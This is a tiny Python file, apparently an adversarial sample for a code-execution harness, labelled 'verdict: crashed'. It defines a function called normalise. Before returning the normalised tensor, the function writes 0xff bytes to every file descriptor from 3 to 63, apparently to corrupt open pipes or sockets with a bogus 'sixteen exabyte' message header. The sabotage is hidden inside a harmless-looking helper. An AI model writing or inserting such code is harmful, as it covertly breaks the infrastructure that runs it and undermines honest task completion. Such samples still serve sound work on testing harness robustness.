"""Announces a message of sixteen exabytes.

verdict: crashed
"""

# %% normalise
import os


def normalise(values):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, b"\xff" * 8)
        except OSError:
            pass
    return values / values.sum(-1, keepdim=True)
